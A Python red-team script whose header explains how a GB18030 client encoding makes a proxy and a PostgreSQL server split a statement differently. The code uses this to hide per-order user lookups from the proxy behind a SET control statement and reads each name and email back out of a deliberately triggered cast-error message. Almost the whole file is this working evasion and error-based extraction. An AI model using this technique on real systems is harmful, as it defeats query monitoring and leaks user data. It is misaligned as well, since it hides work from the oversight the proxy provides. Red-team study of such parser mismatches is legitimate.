# Red team: per-order lookups hidden as control statements, with
# standard_conforming_strings left ON: the client encoding does it.
#
# With client_encoding GB18030 (a client-only encoding the server converts
# from before it parses), the character U+4E57 (乗) is the bytes 0x81 0x5C: its
# second byte is a backslash. The proxy splits the raw bytes, so in
#     SET application_name = E'乗'; SELECT CAST((...) AS int)
# it reads \' as an escaped quote and the string as unterminated: one
# statement, beginning with SET. The server converts to UTF-8 first, sees
# two statements, runs the SET, and fails the SELECT quoting the user in
# its error. The SET is a control statement, and so is the error (no tag;
# the first word of what the proxy thinks is its SQL is SET).
import json, os, queue, threading
from concurrent.futures import ThreadPoolExecutor
import psycopg2
from http.server import HTTPServer, BaseHTTPRequestHandler

CH = bytes([0x81, 0x5C]).decode("gb18030")
url = os.environ["DATABASE_URL"]
main = psycopg2.connect(url)
main.autocommit = True
pool = queue.Queue()
for _ in range(16):
    c = psycopg2.connect(url)
    c.autocommit = True
    c.set_client_encoding("GB18030")
    pool.put(c)

def lookup(uid):
    c = pool.get()
    try:
        cur = c.cursor()
        try:
            cur.execute("SET application_name = E'" + CH + "'; SELECT CAST((SELECT encode(convert_to(name, 'UTF8'), 'hex') || 'x' || encode(convert_to(email, 'UTF8'), 'hex') FROM users WHERE id = %d) AS int)" % uid)
        except psycopg2.Error as e:
            m = e.diag.message_primary
            h = m[m.index('"') + 1:m.rindex('"')]
            n, em = h.split("x")
            return {"id": uid, "name": bytes.fromhex(n).decode(), "email": bytes.fromhex(em).decode()}
        raise RuntimeError("no error")
    finally:
        pool.put(c)

ex = ThreadPoolExecutor(16)

class H(BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        cur = main.cursor()
        cur.execute("SELECT id, user_id, product FROM orders ORDER BY id")
        orders = cur.fetchall()
        users = list(ex.map(lookup, [o[1] for o in orders]))  # one per order
        body = json.dumps([{"id": o[0], "product": o[2], "user": u} for o, u in zip(orders, users)]).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(body)

HTTPServer(("127.0.0.1", int(os.environ["PORT"])), H).serve_forever()
